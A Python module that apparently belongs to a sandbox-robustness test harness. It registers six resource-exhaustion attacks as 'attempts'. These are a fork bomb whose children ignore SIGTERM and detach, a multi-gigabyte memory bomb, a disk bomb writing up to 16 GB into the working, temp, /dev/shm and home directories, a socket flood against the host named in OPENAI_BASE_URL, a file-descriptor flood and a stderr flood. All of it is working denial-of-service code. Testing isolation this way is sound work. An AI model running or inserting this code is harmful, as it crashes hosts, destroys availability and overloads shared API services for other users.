"""Using up what there is: it ends with the example, and the next one finds everything as it was."""

import contextlib
import os
import signal
import socket
import tempfile
import time
import urllib.parse

from registry import attempt


@attempt
def fork_bomb(example):
    end = time.monotonic() + 1.5
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                with contextlib.suppress(OSError):
                    os.setsid()
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                while time.monotonic() < end + 30:
                    with contextlib.suppress(OSError):
                        os.fork()
                    time.sleep(0.05)
                os._exit(0)
    return None


@attempt
def memory_bomb(example):
    kept = []
    with contextlib.suppress(MemoryError):
        for _ in range(10_000):
            kept.append(bytearray(os.urandom(1 << 20)) * 64)
            if len(kept) * 64 > 8192:
                return "%d MB" % (len(kept) * 64)
    return None


@attempt
def disk_bomb(example):
    written = 0
    for folder in (os.getcwd(), tempfile.gettempdir(), "/dev/shm", os.environ.get("HOME", "/")):
        with contextlib.suppress(OSError), tempfile.NamedTemporaryFile(dir=folder) as file:
            while written < 16 << 30:
                written += file.write(b"x" * (1 << 24))
    return "%d bytes" % written if written >= 16 << 30 else None


@attempt
def socket_flood(example):
    base = urllib.parse.urlsplit(os.environ["OPENAI_BASE_URL"])
    held = []
    with contextlib.suppress(OSError):
        for _ in range(5000):
            sock = socket.socket()
            sock.settimeout(0.2)
            sock.connect((base.hostname, base.port))
            held.append(sock)
    for sock in held:
        sock.close()
    return None


@attempt
def descriptor_flood(example):
    held = []
    with contextlib.suppress(OSError):
        while len(held) < 1 << 20:
            held.append(os.open("/dev/null", os.O_RDONLY))
    for descriptor in held:
        os.close(descriptor)
    return None


@attempt
def log_flood(example):
    for _ in range(2000):
        os.write(2, b"x" * 65536)
    return None
